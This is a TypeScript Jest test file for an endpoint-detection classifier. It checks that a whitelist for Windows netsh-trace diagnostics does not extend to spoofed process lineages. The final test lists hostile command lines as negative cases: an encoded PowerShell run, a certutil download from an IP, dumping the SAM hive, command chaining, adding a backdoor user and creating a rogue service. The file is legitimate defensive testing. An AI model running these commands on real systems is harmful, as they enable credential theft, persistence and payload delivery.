import { describe, expect, test } from '@jest/globals';
import { lineageException } from '../../../classifiers/behavior/lineage-exceptions.ts';
import type { Ancestor, ObservedProcess } from '../../../classifiers/behavior/process-context.ts';

const system = (name: string) => `C:\\Windows\\System32\\${name}`;
const script: Ancestor = {
  executable: system('cscript.exe'),
  commandLine: 'C:\\Windows\\system32\\cscript.exe C:\\Windows\\system32\\gatherNetworkInfo.vbs',
};
const netsh: Ancestor = { executable: system('netsh.exe'), commandLine: 'netsh trace start capture=yes' };
const shell = (commandLine: string): Ancestor => ({ executable: system('cmd.exe'), commandLine });

function process(executable: string, commandLine: string, ...lineage: readonly Ancestor[]): ObservedProcess {
  return { entityId: undefined, executable, commandLine, lineage };
}
const excepted = (one: ObservedProcess) => lineageException(one)?.id;

describe('the exception for netsh trace', () => {
  const exported =
    '"C:\\Windows\\System32\\cmd.exe" /c reg export "HKLM\\SOFTWARE\\Example"  Reg\\Example.reg.txt /y';

  test('covers the script, the shells that it starts, and what they run', () => {
    expect(excepted(process(system('cscript.exe'), script.commandLine ?? '', netsh))).toBe(
      'netsh-trace-diagnostics',
    );
    expect(excepted(process(system('cmd.exe'), exported, script, netsh))).toBe('netsh-trace-diagnostics');
    expect(
      excepted(
        process(
          system('reg.exe'),
          'reg  export "HKLM\\SOFTWARE\\Example"  Reg\\Example.reg.txt /y',
          shell(exported),
          script,
          netsh,
        ),
      ),
    ).toBe('netsh-trace-diagnostics');
    const net = process(
      system('cmd.exe'),
      'cmd /c netsh wlan show profiles >> config\\wlaninfo.txt',
      script,
      netsh,
    );
    expect(excepted(net)).toBe('netsh-trace-diagnostics');
  });

  test('is not lent to a script of that name elsewhere', () => {
    const dropped = {
      ...script,
      commandLine: 'C:\\Windows\\system32\\cscript.exe C:\\Users\\Public\\gatherNetworkInfo.vbs',
    };
    expect(excepted(process(system('cmd.exe'), exported, dropped, netsh))).toBeUndefined();
  });

  test('is not lent to a renamed host, or to a host that something else started', () => {
    const renamed = { ...script, executable: 'C:\\Users\\Public\\cscript.exe' };
    expect(excepted(process(system('cmd.exe'), exported, renamed, netsh))).toBeUndefined();
    const foreign = { executable: 'C:\\Users\\Public\\tool.exe', commandLine: 'tool.exe' };
    expect(excepted(process(system('cmd.exe'), exported, script, foreign))).toBeUndefined();
    expect(excepted(process(system('cmd.exe'), exported, script))).toBeUndefined();
  });

  test('is not lent to what the tree never runs, though it claims this parent', () => {
    for (const line of [
      'cmd /c powershell -enc SQBFAFgA',
      'cmd /c certutil -urlcache -f http://192.0.2.1/a a.exe',
      'cmd /c reg save HKLM\\SAM sam',
      'cmd /c reg export HKLM\\SOFTWARE\\Example x.reg & calc.exe',
      'cmd /c net user intruder Passw0rd /add',
      'cmd /c sc create evil binpath= C:\\evil.exe',
      'cmd /c echo x > C:\\Users\\Public\\a & b.bat',
    ]) {
      expect([line, excepted(process(system('cmd.exe'), line, script, netsh))]).toEqual([line, undefined]);
    }
    expect(
      excepted(process('C:\\Users\\Public\\reg.exe', 'reg export HKLM\\X x', script, netsh)),
    ).toBeUndefined();
  });
});
